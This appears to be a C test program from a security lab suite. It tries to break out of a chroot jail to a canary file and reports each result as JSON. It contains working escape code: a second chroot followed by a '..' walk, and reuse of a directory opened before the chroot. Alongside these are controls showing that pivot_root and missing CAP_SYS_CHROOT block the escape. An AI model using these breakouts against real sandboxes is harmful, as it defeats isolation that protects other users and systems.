/*
 * Out of a chroot: chroot(2) changes where absolute names begin and where ".." ends, and nothing else. A process
 * whose working folder is outside the root walks up; a folder that was open before is a way out as well.
 *
 *   canary            what is to be reached: outside
 *   jail/             the root of each attempt
 *   jail/inner/       for the second chroot
 *
 * Shown: two ways out that succeed, one of them without any privilege; and what does not: "..", an ordinary
 * user, root without CAP_SYS_CHROOT, and the first way where the old root was taken away (pivot_root(2)).
 *
 * Runs as root. Man pages: chroot(2), pivot_root(2), capabilities(7), path_resolution(7), mount(2).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "../attack.h"

enum { SOMEBODY = 12345, HIGH_ENOUGH = 64 };

static char canary[4096]; /* its absolute name */

static int try_canary(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    int error = fd == -1 ? errno : 0;
    if (fd != -1)
        close(fd);
    return error;
}

/* Each attempt is a child, for there is no way back from a chroot. Exits with 0 or an errno. */
static const char *in_child(int (*attempt)(void))
{
    pid_t child = start_child();
    if (child == 0)
        _exit(attempt());
    int status = wait_for(child);
    return verdict(WIFEXITED(status) ? WEXITSTATUS(status) : EINVAL);
}

static void enter_jail(void)
{
    if (chroot("jail") == -1 || chdir("/") == -1)
        die("chroot");
}

/* The working folder is left outside of the new root: no ".." is a step too far any more. */
static int walk_out(void)
{
    if (chroot("inner") == -1)
        return errno;
    for (int i = 0; i < HIGH_ENOUGH; i++)
        if (chdir("..") == -1)
            return errno;
    if (chroot(".") == -1)
        return errno;
    return try_canary(canary);
}

static int by_dotdot(void)
{
    enter_jail();
    return try_canary("../canary");
}

static int by_second_chroot(void)
{
    enter_jail();
    return walk_out();
}

/* As an ordinary user: to use what is open takes no capability. */
static int by_open_folder(void)
{
    int outside = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (outside == -1)
        die("open");
    enter_jail();
    if (setgid(SOMEBODY) == -1 || setuid(SOMEBODY) == -1)
        die("setuid");
    if (fchdir(outside) == -1)
        return errno;
    return try_canary("canary");
}

static int as_somebody(void)
{
    enter_jail();
    if (setgid(SOMEBODY) == -1 || setuid(SOMEBODY) == -1)
        die("setuid");
    return walk_out();
}

static int without_capability(void)
{
    struct __user_cap_header_struct who = {.version = _LINUX_CAPABILITY_VERSION_3};
    struct __user_cap_data_struct sets[2];
    enter_jail();
    if (syscall(SYS_capget, &who, sets) == -1)
        die("capget");
    sets[0].effective &= ~(1u << CAP_SYS_CHROOT);
    sets[0].permitted &= ~(1u << CAP_SYS_CHROOT);
    if (syscall(SYS_capset, &who, sets) == -1)
        die("capset");
    return walk_out();
}

/* The kernel's first file system cannot be exchanged (EINVAL): there the new root is moved over it. */
static bool exchange_root(void)
{
    if (syscall(SYS_pivot_root, ".", ".") == 0)
        return umount2(".", MNT_DETACH) == 0 && chdir("/") == 0;
    return errno == EINVAL && mount(".", "/", NULL, MS_MOVE, NULL) == 0 && chroot(".") == 0 && chdir("/") == 0;
}

/* The same walk, in a mount namespace from whose root no way leads further up. */
static int after_pivot_root(void)
{
    if (unshare(CLONE_NEWNS) == -1)
        return errno;
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == -1 ||
        mount("tmpfs", "jail", "tmpfs", 0, "size=64k") == -1 || chdir("jail") == -1 ||
        mkdir("inner", 0755) == -1 || !exchange_root())
        die("the new root");
    return walk_out();
}

static void make(void)
{
    if (getcwd(canary, sizeof canary - 16) == NULL)
        die("getcwd");
    strcat(canary, "/canary");
    int fd = open(canary, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd == -1 || fchmod(fd, 0644) == -1 || close(fd) == -1)
        die(canary);
    if ((mkdir("jail", 0755) == -1 || mkdir("jail/inner", 0755) == -1) && errno != EEXIST)
        die("jail");
}

int main(void)
{
    make();
    printf("{\"outside\": \"%s\", ", verdict(try_canary(canary)));
    fflush(stdout);
    printf("\"dotdot\": \"%s\", ", in_child(by_dotdot));
    printf("\"second_chroot\": \"%s\", ", in_child(by_second_chroot));
    printf("\"open_folder\": \"%s\", ", in_child(by_open_folder));
    printf("\"somebody\": \"%s\", ", in_child(as_somebody));
    printf("\"without_capability\": \"%s\", ", in_child(without_capability));
    printf("\"after_pivot_root\": \"%s\"}\n", in_child(after_pivot_root));
    return 0;
}
